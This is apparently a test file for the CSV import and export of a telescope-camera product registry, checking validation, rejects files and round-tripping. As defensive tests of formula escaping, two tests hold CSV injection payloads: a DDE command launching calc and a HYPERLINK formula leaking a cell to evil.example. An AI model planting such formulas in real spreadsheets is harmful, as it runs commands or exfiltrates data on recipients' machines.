import assert from 'node:assert/strict'
import fs from 'node:fs'
import path from 'node:path'
import { PassThrough } from 'node:stream'
import { after, before, describe, test } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { createTestContext } from '../app/test-context.ts'
import { openTestDatabase, type TestDatabase, testEngines } from '../db/test-database.ts'
import type { AppContext } from '../shared/app-context.ts'
import type { AppError } from '../shared/errors.ts'
import { translate } from '../shared/messages/translate.ts'
import { ORG } from './demo-catalogue.ts'
import { seedDemoRegistry } from './demo-seed.ts'
import { exportRegistry } from './export-registry.ts'
import { importModels } from './import-models.ts'
import { importCustomers, importDealers } from './import-parties.ts'
import { importUnits } from './import-units.ts'
import { findUnitBySerial } from './unit.store.ts'

const HEADER = 'serial,model,purchasedOn,shippedOn,deliveredOn,channel,dealer,customer,secondHand'

/** A CSV of unit sales: three good rows and three bad ones (model, date, dealer). */
function aMixedUnitFile(dir: string): string {
  const file = path.join(dir, 'units.csv')
  const lines = [
    HEADER,
    'IMP-001,ares-mpro,2025-01-02,2025-01-03,2025-01-10,direct,,,',
    'IMP-002,Poseidon C PRO,2025-02-01,2025-02-02,2025-02-09,dealer,Starlight Optics,imported.buyer@example.com,false',
    'IMP-003,HUBBLE,2025-02-01,2025-02-02,2025-02-09,direct,,,',
    'IMP-004,Ares-C PRO,2025-02-30,2025-03-02,2025-03-09,direct,,,',
    `IMP-005,astrostation,2025-03-01,2025-03-02,2025-03-05,dealer,${ORG.prairie},,yes`,
    'IMP-006,Uranus-M PRO,2025-03-01,2025-03-02,2025-03-05,dealer,Nobody Astro,,',
  ]
  fs.writeFileSync(file, `${lines.join('\n')}\n`)
  return file
}

async function exportToString(ctx: AppContext, kind: 'units' | 'customers' | 'dealers'): Promise<string> {
  const out = new PassThrough()
  const chunks: Buffer[] = []
  out.on('data', (chunk: Buffer) => chunks.push(chunk))
  await exportRegistry(ctx, kind, out)
  return Buffer.concat(chunks).toString('utf8')
}

for (const engine of testEngines()) {
  describe(`CSV import and export (${engine})`, () => {
    let database: TestDatabase
    let ctx: AppContext

    before(async () => {
      database = await openTestDatabase(engine)
      // With the raw connection, as the command builds it: SQLite imports take their bulk path.
      ctx = Object.assign(createTestContext(database, { now: () => new Date('2025-06-15T10:00:00Z') }), {
        sqlite: database.sqlite,
      })
      await seedDemoRegistry(ctx)
      const customers = path.join(database.dataDir, 'customers.csv')
      fs.writeFileSync(
        customers,
        'email,name,locale,city,country\nImported.Buyer@example.com,Imported Buyer,en,Bonn,DE\n',
      )
      const summary = await importCustomers(ctx, { file: customers })
      assert.equal(summary.imported, 1)
    })
    after(async () => database.dispose())

    /** A units file in the test's data folder: the header, then `rows`. */
    const writeUnits = (name: string, rows: string[]): string => {
      const file = path.join(database.dataDir, name)
      fs.writeFileSync(file, `${[HEADER, ...rows].join('\n')}\n`)
      return file
    }

    test("a customer file's language is a guess: it marks nobody as having chosen one, and never replaces a choice", async () => {
      const file = path.join(database.dataDir, 'languages.csv')
      const write = (rows: string[]) => fs.writeFileSync(file, `email,name,locale\n${rows.join('\n')}\n`)
      const read = (email: string) =>
        ctx.db
          .selectFrom('customers')
          .select(['locale', 'locale_chosen_at', 'locale_guessed_at'])
          .where('email', '=', email)
          .executeTakeFirstOrThrow()
      const at = '2025-06-15T10:00:00.000Z'
      write(['unsaid@example.com,Unsaid,', 'said@example.com,Said,zh'])
      await importCustomers(ctx, { file })
      assert.deepEqual(await read('unsaid@example.com'), {
        locale: 'en',
        locale_chosen_at: null,
        locale_guessed_at: null,
      })
      assert.deepEqual(await read('said@example.com'), {
        locale: 'zh',
        locale_chosen_at: null,
        locale_guessed_at: at,
      })
      // Staff learn the customer reads Chinese; a later file without languages keeps it.
      write(['unsaid@example.com,Unsaid,zh'])
      await importCustomers(ctx, { file })
      assert.deepEqual(await read('unsaid@example.com'), {
        locale: 'zh',
        locale_chosen_at: null,
        locale_guessed_at: at,
      })
      write(['unsaid@example.com,Unsaid Renamed,'])
      await importCustomers(ctx, { file })
      assert.equal((await read('unsaid@example.com')).locale, 'zh')
      // The customer's own choice outweighs any file: the rest of the row is still taken.
      await ctx.db
        .updateTable('customers')
        .set({ locale_chosen_at: at })
        .where('email', '=', 'said@example.com')
        .execute()
      write(['said@example.com,Said Renamed,en'])
      await importCustomers(ctx, { file })
      assert.deepEqual(await read('said@example.com'), {
        locale: 'zh',
        locale_chosen_at: at,
        locale_guessed_at: at,
      })
      assert.equal(
        (
          await ctx.db
            .selectFrom('customers')
            .select('name')
            .where('email', '=', 'said@example.com')
            .executeTakeFirstOrThrow()
        ).name,
        'Said Renamed',
      )
    })

    test('a customer’s language, chosen or only seen, comes back as it was from an export imported again, into a registry without them or over them', async () => {
      const language = fc.oneof(
        fc.constant({ locale: 'en' as const, said: 'by nobody' as const }),
        fc.record({
          locale: fc.constantFrom('en' as const, 'zh' as const),
          said: fc.constantFrom('seen' as const, 'chosen' as const, 'chosen after being seen' as const),
        }),
      )
      const at = '2025-06-01T00:00:00.000Z'
      const languageOf = (email: string) =>
        ctx.db
          .selectFrom('customers')
          .select(['locale', 'locale_chosen_at', 'locale_guessed_at'])
          .where('email', '=', email)
          .executeTakeFirstOrThrow()
          .then((r) => ({
            locale: r.locale,
            said:
              r.locale_chosen_at !== null ? 'chosen' : r.locale_guessed_at !== null ? 'seen' : 'by nobody',
          }))
      let round = 0
      await fc.assert(
        fc.asyncProperty(fc.array(language, { minLength: 1, maxLength: 4 }), async (languages) => {
          const prefix = `lang${round++}-`
          const emails = languages.map((_, i) => `${prefix}${i}@example.com`)
          await ctx.db
            .insertInto('customers')
            .values(
              languages.map(({ locale, said }, i) => ({
                id: `cus-${prefix}${i}`,
                email: emails[i] as string,
                name: `Customer ${i}`,
                locale,
                locale_chosen_at: said.startsWith('chosen') ? at : null,
                locale_guessed_at: said === 'seen' || said === 'chosen after being seen' ? at : null,
                created_at: at,
                updated_at: at,
              })),
            )
            .execute()
          const expected = languages.map(({ locale, said }) => ({
            locale,
            said: said.startsWith('chosen') ? 'chosen' : said,
          }))
          const file = path.join(database.dataDir, `${prefix}customers.csv`)
          fs.writeFileSync(file, await exportToString(ctx, 'customers'))
          assert.equal((await importCustomers(ctx, { file })).rejected, 0)
          assert.deepEqual(await Promise.all(emails.map(languageOf)), expected, 'over the customers')
          await ctx.db.deleteFrom('customers').where('email', 'in', emails).execute()
          assert.equal((await importCustomers(ctx, { file })).rejected, 0)
          assert.deepEqual(
            await Promise.all(emails.map(languageOf)),
            expected,
            'into a registry without them',
          )
        }),
        { numRuns: 25 },
      )
    })

    test('a customer file row that says a language was chosen names the language, and says it as true or false', async () => {
      const file = path.join(database.dataDir, 'chosen-languages.csv')
      fs.writeFileSync(
        file,
        'email,name,locale,localeChosen\nnone@example.com,None,,true\nmaybe@example.com,Maybe,zh,perhaps\n',
      )
      const summary = await importCustomers(ctx, { file })
      assert.equal(summary.rejected, 2)
      const rejects = parse(fs.readFileSync(file.replace(/\.csv$/, '.rejects.csv')), {
        bom: true,
        columns: true,
      }) as Array<Record<string, string>>
      assert.deepEqual(
        rejects.map((r) => [r.email, r.field, r.errorKey]),
        [
          ['none@example.com', 'localeChosen', 'import.locale-chosen-without-locale'],
          ['maybe@example.com', 'localeChosen', 'import.boolean'],
        ],
      )
    })

    test('a serial met again in the same file is rejected naming the line it repeats; importing again changes nothing', async () => {
      const file = writeUnits('repeated.csv', [
        'REP-001,ares-mpro,2025-01-02,2025-01-03,2025-01-10,direct,,,',
        'REP-002,ares-mpro,2025-01-02,2025-01-03,2025-01-10,direct,,,',
        'rep-001,Poseidon C PRO,2024-12-01,2024-12-02,2024-12-09,direct,,,',
      ])
      const first = await importUnits(ctx, { file })
      assert.deepEqual([first.imported, first.unchanged, first.rejected], [2, 0, 1])
      const rejects = parse(fs.readFileSync(path.join(database.dataDir, 'repeated.rejects.csv')), {
        bom: true,
        columns: true,
      }) as Array<Record<string, string>>
      assert.deepEqual(
        rejects.map((r) => [r.line, r.field, r.errorKey, r.errorParams]),
        [['4', 'serial', 'import.duplicate', JSON.stringify({ value: 'REP-001', line: 2 })]],
      )
      assert.equal(
        (await findUnitBySerial(ctx.db, 'REP-001'))?.purchasedOn,
        '2025-01-02',
        'the first row stands',
      )
      const again = await importUnits(ctx, { file })
      assert.deepEqual([again.imported, again.unchanged, again.rejected], [0, 2, 1])
      // A rejected row's cells go back out as text a spreadsheet will not run.
      fs.writeFileSync(file, `${HEADER}\n=cmd|' /C calc'!A0,ares-mpro,2025-01-02,,,direct,,,\n`)
      await importUnits(ctx, { file })
      const [formula] = parse(fs.readFileSync(path.join(database.dataDir, 'repeated.rejects.csv')), {
        bom: true,
        columns: true,
      }) as Array<Record<string, string>>
      assert.equal(formula?.serial, `'=cmd|' /C calc'!A0`)
    })

    test("a dealer row naming a seller's or maker's organisation is rejected naming the dealer column, as the API refuses it", async () => {
      const file = writeUnits('not-dealers.csv', [
        `NOTD-001,ares-mpro,2025-01-02,2025-01-03,2025-01-10,dealer,${ORG.playerOne},,`,
        'NOTD-002,ares-mpro,2025-01-02,2025-01-03,2025-01-10,dealer,ToupTek Astronomy,,',
        'NOTD-003,ares-mpro,2025-01-02,2025-01-03,2025-01-10,dealer,Starlight Optics,,',
      ])
      const summary = await importUnits(ctx, { file })
      assert.deepEqual([summary.imported, summary.rejected], [1, 2])
      const rejects = parse(fs.readFileSync(path.join(database.dataDir, 'not-dealers.rejects.csv')), {
        bom: true,
        columns: true,
      }) as Array<Record<string, string>>
      assert.deepEqual(
        rejects.map((r) => [r.line, r.field, r.errorKey]),
        [
          ['2', 'dealer', 'registry.sale.not-a-dealer'],
          ['3', 'dealer', 'registry.sale.not-a-dealer'],
        ],
      )
      assert.equal(await findUnitBySerial(ctx.db, 'NOTD-001'), undefined)
    })

    test('an empty file is refused, naming it, like the web import', async () => {
      const file = path.join(database.dataDir, 'empty.csv')
      fs.writeFileSync(file, '')
      await assert.rejects(importUnits(ctx, { file, fileName: 'empty.csv' }), (error: Error) => {
        assert.equal((error as { field?: string }).field, 'FILE')
        assert.match(error.message, /^empty\.csv: the file is empty/)
        return true
      })
    })

    test('a file not in UTF-8 (a spreadsheet saving in GBK) is refused naming its line and column, and writes nothing', async () => {
      // 星光 in GBK, the encoding a spreadsheet on a Chinese Windows saves "CSV" in.
      const gbk = Buffer.from([0xd0, 0xc7, 0xb9, 0xe2])
      const good = (i: number) => `GBK-${String(i).padStart(5, '0')},ares-mpro,2025-01-02,,,direct,,,`
      // Early in the file, and past the first reads (64 KiB) of a file much longer.
      for (const [name, before] of [
        ['shop-gbk.csv', 1],
        ['shop-gbk-long.csv', 3000],
      ] as const) {
        const file = path.join(database.dataDir, name)
        const rows = Array.from({ length: before }, (_, i) => good(i)).join('\r\n')
        fs.writeFileSync(
          file,
          Buffer.concat([
            Buffer.from(`${HEADER}\r\n${rows}\r\nGBK-X,ares-mpro,2025-01-02,,,dealer,`),
            gbk,
            Buffer.from(',,\r\nGBK-Y,ares-mpro,2025-01-02,,,direct,,,\r\n'),
          ]),
        )
        const line = before + 2
        await assert.rejects(importUnits(ctx, { file, fileName: name }), (error: AppError) => {
          assert.equal(error.text?.key, 'import.not-utf8-at')
          assert.match(
            error.message,
            new RegExp(`^${name.replace('.', '\\.')}, line ${line}, column 7 \\(dealer\\): .*not UTF-8`),
          )
          assert.equal(error.field, 'dealer')
          assert.deepEqual(error.details, { line, column: 7 })
          return true
        })
        assert.equal(
          await findUnitBySerial(ctx.db, 'GBK-00000'),
          undefined,
          'nothing of a refused file is kept',
        )
        assert.equal(fs.existsSync(file.replace(/\.csv$/, '.rejects.csv')), false)
      }
    })

    test('a file refused whole (a row of the wrong length) writes nothing and leaves no rejects file', async () => {
      const file = writeUnits('broken.csv', [
        'BRK-001,ares-mpro,2025-02-30,,,direct,,,',
        'BRK-002,ares-mpro,2025-01-02,,,direct,,,,extra',
      ])
      await assert.rejects(importUnits(ctx, { file, fileName: 'shop-units.csv' }), (error: AppError) => {
        // Column 10 is the first past the header's nine.
        assert.match(error.message, /^shop-units\.csv, line 3, column 10: /)
        assert.deepEqual(error.details, { line: 3, column: 10 })
        // Said in both languages, with the counts a reader needs to find the stray separator.
        assert.equal(error.text?.key, 'import.csv-row-length')
        assert.deepEqual(error.text?.params, {
          file: 'shop-units.csv',
          line: 3,
          column: 10,
          got: 10,
          expected: 9,
        })
        assert.match(translate('zh', 'import.csv-row-length', error.text?.params), /第 3 行第 10 列.*10.*9/)
        return true
      })
      assert.equal(fs.existsSync(path.join(database.dataDir, 'broken.rejects.csv')), false)
      assert.equal(await findUnitBySerial(ctx.db, 'BRK-001'), undefined)
    })

    test('a row longer than a megabyte refuses the file naming its line, read no further', async () => {
      const file = writeUnits('long-row.csv', [
        'LONG-001,ares-mpro,2025-01-02,,,direct,,,',
        `LONG-002,${'ares-mpro '.repeat(300_000)},2025-01-02,,,direct,,,`,
        'LONG-003,ares-mpro,2025-01-02,,,direct,,,',
      ])
      await assert.rejects(importUnits(ctx, { file, fileName: 'long-row.csv' }), (error: AppError) => {
        assert.equal(error.text?.key, 'import.csv-record-too-long')
        assert.match(
          error.message,
          /^long-row\.csv, line 3, column 2: the row starting here is longer than 1048576 characters/,
        )
        assert.deepEqual(error.details, { line: 3, column: 2 })
        return true
      })
      assert.equal(await findUnitBySerial(ctx.db, 'LONG-001'), undefined)
    })

    test('a file put right and imported again leaves no rejects file of the earlier run beside it', async () => {
      const file = writeUnits('put-right.csv', [
        'PR-001,ares-mpro,2025-01-02,,,direct,,,',
        'PR-002,ares-mpro,2025-02-30,,,direct,,,',
      ])
      const first = await importUnits(ctx, { file })
      assert.equal(first.rejected, 1)
      assert.ok(fs.existsSync(path.join(database.dataDir, 'put-right.rejects.csv')))
      writeUnits('put-right.csv', [
        'PR-001,ares-mpro,2025-01-02,,,direct,,,',
        'PR-002,ares-mpro,2025-02-28,,,direct,,,',
      ])
      const again = await importUnits(ctx, { file })
      assert.deepEqual([again.imported, again.rejected, again.rejectsPath], [1, 0, null])
      assert.equal(fs.existsSync(path.join(database.dataDir, 'put-right.rejects.csv')), false)
    })

    test('customers and dealers named by nothing visible, or past 200 characters, are rejected naming the name', async () => {
      const customers = path.join(database.dataDir, 'odd-customers.csv')
      fs.writeFileSync(
        customers,
        `email,name\nblank.name@example.com,\u200b\u200b\nlong.name@example.com,${'Li '.repeat(100)}\nfine.name@example.com,李雷\n`,
      )
      const summary = await importCustomers(ctx, { file: customers })
      assert.deepEqual([summary.imported, summary.rejected], [1, 2])
      const rejects = parse(fs.readFileSync(path.join(database.dataDir, 'odd-customers.rejects.csv')), {
        bom: true,
        columns: true,
      }) as Array<Record<string, string>>
      assert.deepEqual(
        rejects.map((r) => [r.line, r.field, r.errorKey]),
        [
          ['2', 'name', 'import.required'],
          ['3', 'name', 'import.too-long'],
        ],
      )
      const dealers = path.join(database.dataDir, 'odd-dealers.csv')
      fs.writeFileSync(dealers, `name,country,email\n\u200b\u200b\u200b,DE,zw@example.com\n`)
      assert.equal((await importDealers(ctx, { file: dealers })).rejected, 1)
    })

    test('good rows are kept, bad ones are reported by line and field', async () => {
      const file = aMixedUnitFile(database.dataDir)
      const summary = await importUnits(ctx, { file })
      assert.deepEqual([summary.imported, summary.unchanged, summary.rejected], [3, 0, 3])
      const rejects = parse(fs.readFileSync(path.join(database.dataDir, 'units.rejects.csv')), {
        bom: true,
        columns: true,
      }) as Array<Record<string, string>>
      assert.deepEqual(
        rejects.map((r) => [r.serial, r.line, r.field]),
        [
          ['IMP-003', '4', 'model'],
          ['IMP-004', '5', 'purchasedOn'],
          ['IMP-006', '7', 'dealer'],
        ],
      )
      const sold = await findUnitBySerial(ctx.db, 'IMP-002')
      assert.equal(sold?.modelName, 'Poseidon-C PRO')
      assert.equal(sold?.dealerOrgId, ORG.starlight)
      assert.equal(sold?.shippedBy, 'dealer')
      assert.equal(`${sold?.policyId}@${sold?.policyVersion}`, 'player-one@1')
      assert.ok(sold?.ownerCustomerId)
      const astro = await findUnitBySerial(ctx.db, 'IMP-005')
      assert.equal(astro?.policyId, 'touptek')
      assert.equal(astro?.secondHand, true)
    })

    test('dates before 1900 are refused naming the column, as the API refuses them', async () => {
      const file = path.join(database.dataDir, 'old-dates.csv')
      fs.writeFileSync(
        file,
        [
          HEADER,
          'OLD-001,ares-mpro,0099-01-02,,,direct,,,',
          'OLD-002,ares-mpro,2025-01-02,,1899-12-31,direct,,,',
          'OLD-003,ares-mpro,1900-01-01,,,direct,,,',
          '',
        ].join('\n'),
      )
      const summary = await importUnits(ctx, { file })
      assert.deepEqual([summary.imported, summary.rejected], [1, 2])
      const rejects = parse(fs.readFileSync(path.join(database.dataDir, 'old-dates.rejects.csv')), {
        bom: true,
        columns: true,
      }) as Array<Record<string, string>>
      assert.deepEqual(
        rejects.map((r) => [r.serial, r.field]),
        [
          ['OLD-001', 'purchasedOn'],
          ['OLD-002', 'deliveredOn'],
        ],
      )
      assert.equal(await findUnitBySerial(ctx.db, 'OLD-001'), undefined)
    })

    test('re-importing the same file changes nothing, not even updated_at', async () => {
      const file = aMixedUnitFile(database.dataDir)
      const before = await findUnitBySerial(ctx.db, 'IMP-001')
      const summary = await importUnits(ctx, {
        file,
        rejectsPath: path.join(database.dataDir, 'again.rejects.csv'),
      })
      assert.deepEqual([summary.imported, summary.unchanged, summary.rejected], [0, 3, 3])
      assert.equal((await findUnitBySerial(ctx.db, 'IMP-001'))?.updatedAt, before?.updatedAt)
    })

    test('an import whose rejects file cannot be written keeps none of its rows and names the rejects file', async () => {
      const file = path.join(database.dataDir, 'lost-rejects.csv')
      fs.writeFileSync(
        file,
        `${HEADER}\nLOST-001,ares-mpro,2025-01-02,2025-01-03,2025-01-10,direct,,,\n` +
          'LOST-002,HUBBLE,2025-02-01,2025-02-02,2025-02-09,direct,,,\n',
      )
      // A folder where the rejects file should go: found only once the first bad row is written.
      const rejectsPath = path.join(database.dataDir, 'rejects-is-a-folder')
      fs.mkdirSync(rejectsPath, { recursive: true })
      await assert.rejects(importUnits(ctx, { file, rejectsPath }), (error: AppError) => {
        assert.equal(error.field, 'rejects')
        assert.match(error.message, /rejects-is-a-folder/)
        return true
      })
      assert.equal(await findUnitBySerial(ctx.db, 'LOST-001'), undefined, 'the good row is not kept')
      assert.ok(fs.statSync(rejectsPath).isDirectory(), 'the folder is left as it was')
    })

    test('a file with only the required columns stores the defaults of the others, and a later file sets them', async () => {
      const file = path.join(database.dataDir, 'required-only.csv')
      fs.writeFileSync(
        file,
        'serial,model,purchasedOn,shippedOn,deliveredOn,channel,dealer\n' +
          'REQ-001,ares-mpro,2025-01-02,2025-01-03,2025-01-10,direct,\n',
      )
      const summary = await importUnits(ctx, { file })
      assert.deepEqual([summary.imported, summary.rejected], [1, 0])
      const unit = await findUnitBySerial(ctx.db, 'REQ-001')
      assert.deepEqual(
        [unit?.batch, unit?.activatedOn, unit?.ownerCustomerId, unit?.replacedBySerial],
        [null, null, null, null],
      )
      assert.deepEqual([unit?.secondHand, unit?.proofOfPurchase, unit?.warrantyCard], [false, true, true])
      assert.equal(unit?.createdAt, '2025-06-15T10:00:00.000Z')
      assert.equal(unit?.updatedAt, '2025-06-15T10:00:00.000Z')

      const full = path.join(database.dataDir, 'all-columns.csv')
      fs.writeFileSync(
        full,
        'serial,model,purchasedOn,shippedOn,deliveredOn,channel,dealer,batch,activatedOn,secondHand,proofOfPurchase,warrantyCard,replacedBy\n' +
          'REQ-001,ares-mpro,2025-01-02,2025-01-03,2025-01-10,direct,,B2501,2025-01-11,yes,no,no,REQ-002\n',
      )
      assert.equal((await importUnits(ctx, { file: full })).imported, 1)
      const changed = await findUnitBySerial(ctx.db, 'REQ-001')
      assert.deepEqual(
        [changed?.batch, changed?.activatedOn, changed?.replacedBySerial],
        ['B2501', '2025-01-11', 'REQ-002'],
      )
      assert.deepEqual(
        [changed?.secondHand, changed?.proofOfPurchase, changed?.warrantyCard],
        [true, false, false],
      )
    })

    test('a header written in other cases (SERIAL, Batch) reads as the columns it names; the same column twice is refused', async () => {
      const file = path.join(database.dataDir, 'cased.csv')
      fs.writeFileSync(
        file,
        'SERIAL,Model,PurchasedOn,shippedon,DeliveredOn,Channel,DEALER,Batch,SecondHand,Notes\n' +
          'CASE-001,ares-mpro,2025-01-02,2025-01-03,2025-01-10,direct,,B-77,yes,kept aside\n',
      )
      const summary = await importUnits(ctx, { file })
      assert.deepEqual([summary.imported, summary.rejected], [1, 0])
      const unit = await findUnitBySerial(ctx.db, 'CASE-001')
      assert.deepEqual([unit?.batch, unit?.shippedOn, unit?.secondHand], ['B-77', '2025-01-03', true])

      const twice = path.join(database.dataDir, 'cased-twice.csv')
      fs.writeFileSync(twice, `${HEADER},Serial\nCASE-002,ares-mpro,2025-01-02,,,direct,,,,CASE-003\n`)
      await assert.rejects(
        importUnits(ctx, { file: twice, fileName: 'cased-twice.csv' }),
        (error: AppError) => {
          assert.equal(error.field, 'serial')
          assert.match(error.message, /serial twice \(columns 1 and 10\)/)
          return true
        },
      )
      assert.equal(await findUnitBySerial(ctx.db, 'CASE-002'), undefined)
    })

    test('a changed row is updated and counted once', async () => {
      const file = path.join(database.dataDir, 'change.csv')
      fs.writeFileSync(file, `${HEADER}\nIMP-001,ares-mpro,2025-01-02,2025-01-03,2025-01-12,direct,,,\n`)
      const summary = await importUnits(ctx, { file })
      assert.deepEqual([summary.imported, summary.unchanged, summary.rejected], [1, 0, 0])
      assert.equal((await findUnitBySerial(ctx.db, 'IMP-001'))?.deliveredOn, '2025-01-12')
    })

    test('quoted cells and CRLF line ends import like plain ones, with the right reject lines', async () => {
      const file = path.join(database.dataDir, 'quoted.csv')
      const lines = [
        HEADER,
        '"IMP-101","Ares-M PRO",2025-04-01,2025-04-02,2025-04-08,direct,,,',
        'IMP-102,"Poseidon, C PRO",2025-04-01,2025-04-02,2025-04-08,direct,,,',
        'IMP-103, ares-mpro ,2025-04-01,2025-04-02,2025-04-08,dealer,"Starlight Optics",,',
      ]
      fs.writeFileSync(file, `\ufeff${lines.join('\r\n')}\r\n`)
      const rejectsPath = path.join(database.dataDir, 'quoted.rejects.csv')
      const summary = await importUnits(ctx, { file, rejectsPath })
      assert.deepEqual([summary.imported, summary.unchanged, summary.rejected], [2, 0, 1])
      const rejects = parse(fs.readFileSync(rejectsPath), { bom: true, columns: true }) as Array<
        Record<string, string>
      >
      assert.deepEqual(
        rejects.map((r) => [r.model, r.line, r.field]),
        [['Poseidon, C PRO', '3', 'model']],
      )
      assert.equal((await findUnitBySerial(ctx.db, 'IMP-103'))?.dealerOrgId, ORG.starlight)
      const again = await importUnits(ctx, { file, rejectsPath })
      assert.deepEqual([again.imported, again.unchanged, again.rejected], [0, 2, 1])
    })

    test('a file without a required column is refused before any row', async () => {
      const file = path.join(database.dataDir, 'short.csv')
      fs.writeFileSync(file, 'serial,model\nX-1,ares-mpro\n')
      await assert.rejects(
        importUnits(ctx, { file }),
        (error: Error & { field?: string }) => error.field === 'purchasedOn',
      )
    })

    test('a catalogue refused at its last line, past many batches, writes none of its models', async () => {
      const lines = ['model,category,policy']
      // More than one 64 KiB read, so that rows were written before the last line is met.
      for (let i = 0; i < 3_000; i++) lines.push(`Whole File ${i},camera,player-one`)
      lines.push('Whole File Broken,camera,player-one,stray')
      const file = path.join(database.dataDir, 'late-broken-models.csv')
      fs.writeFileSync(file, `${lines.join('\n')}\n`)
      await assert.rejects(importModels(ctx, { file }), (error: AppError) => error.details?.line === 3_002)
      const written = await ctx.db
        .selectFrom('product_models')
        .select('id')
        .where('name', 'like', 'Whole File%')
        .execute()
      assert.equal(written.length, 0)
    })

    test('no exported cell runs as a formula in a spreadsheet, and the export still re-imports unchanged', async () => {
      const typed = path.join(database.dataDir, 'formula-customers.csv')
      fs.writeFileSync(
        typed,
        [
          'email,name,phone,locale,street,city,country',
          'formula.name@example.com,"=HYPERLINK(""http://evil.example/?leak=""&A2,""Anna"")",+1 555 0100,en,@SUM(A1),-Bonn,DE',
        ].join('\n'),
      )
      assert.equal((await importCustomers(ctx, { file: typed })).imported, 1)
      const dealers = path.join(database.dataDir, 'formula-dealers.csv')
      fs.writeFileSync(dealers, 'name,kind,country,email\n=1+1 Optics,dealer,DE,formula.dealer@example.com\n')
      assert.equal((await importDealers(ctx, { file: dealers })).imported, 1)

      const customers = parse(await exportToString(ctx, 'customers'), { bom: true, columns: true }) as Record<
        string,
        string
      >[]
      const row = customers.find((c) => c.email === 'formula.name@example.com')
      assert.deepEqual(
        [row?.name, row?.phone, row?.street, row?.city],
        [`'=HYPERLINK("http://evil.example/?leak="&A2,"Anna")`, "'+1 555 0100", "'@SUM(A1)", "'-Bonn"],
      )
      const dealerRows = parse(await exportToString(ctx, 'dealers'), { bom: true, columns: true }) as Record<
        string,
        string
      >[]
      assert.equal(dealerRows.find((d) => d.email === 'formula.dealer@example.com')?.name, "'=1+1 Optics")
      for (const rows of [customers, dealerRows])
        for (const cells of rows)
          for (const cell of Object.values(cells)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/)
    })

    test('exports re-import cleanly: units, customers and dealers', async () => {
      for (const kind of ['units', 'customers', 'dealers'] as const) {
        const file = path.join(database.dataDir, `export-${kind}.csv`)
        fs.writeFileSync(file, await exportToString(ctx, kind))
        const importer =
          kind === 'units' ? importUnits : kind === 'customers' ? importCustomers : importDealers
        const summary = await importer(ctx, { file })
        assert.equal(summary.rejected, 0, `${kind} rejected rows`)
        assert.equal(summary.imported, 0, `${kind} changed rows`)
        assert.ok(summary.unchanged > 0, `${kind} exported nothing`)
      }
    })
  })
}
